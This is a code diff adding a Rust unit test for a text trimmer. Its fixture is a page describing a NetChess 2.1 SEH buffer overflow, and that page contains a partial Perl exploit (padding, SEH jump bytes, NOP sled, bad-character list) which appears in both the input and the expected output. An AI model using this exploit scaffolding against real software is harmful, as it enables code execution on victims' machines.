@@ -3114,3 +3114,14 @@ fn the_title_goes_back_over_a_picture_named_after_it() {
         "德克萨斯州众议院委员会通过比特币储备法案\n\n德克萨斯州参议院通过的比特币储备法案在众议院取得了进展，从委员会中脱颖而出。\n\n德克萨斯州众议院委员会通过了一项共和党支持的法案，以创建比特币储备，该法案现在将进行全场投票。\n\n德克萨斯州众议院政府效率交付委员会于5月7日以9比4的投票结果通过了参议院第21号法案。\n"
     );
 }
+
+#[test]
+fn unfenced_codes_comments_between_its_statements_keep_its_lines() {
+    // An exploit's Perl a converter left without a fence, `#` comments between its
+    // statements: its lines stay lines.
+    let page = "---\ntitle: NetChess 2.1 Buffer Overflow\nurl: https://cxsecurity.com/issue/WLB-2023010040\n---\n\n# NetChess 2.1 Buffer Overflow\n\nThe program copies the name of a game file into a fixed buffer on the stack, so a long name overwrites the structured exception handler.\n\n#!/usr/bin/perl\nmy $file= \"exploit.pgn\";\nmy $junk= \"\\x41\" x 336;\n#JMP short 6bytes\nmy $seh=\"\\xeb\\x06\\xcc\\xcc\";\n#bad chars: \\x00\\x0a\\x1a\nmy $nop= \"\\x90\" x 10;\nopen($FILE,\">$file\");\n\nOpen the file in NetChess and the calculator starts.\n";
+    assert_eq!(
+        trimmed("spam-trim", page.as_bytes()),
+        "NetChess 2.1 Buffer Overflow\n\nThe program copies the name of a game file into a fixed buffer on the stack, so a long name overwrites the structured exception handler.\n\n#!/usr/bin/perl\nmy $file= \"exploit.pgn\";\nmy $junk= \"\\x41\" x 336;\n#JMP short 6bytes\nmy $seh=\"\\xeb\\x06\\xcc\\xcc\";\n#bad chars: \\x00\\x0a\\x1a\nmy $nop= \"\\x90\" x 10;\nopen($FILE,\">$file\");\n\nOpen the file in NetChess and the calculator starts.\n"
+    );
+}
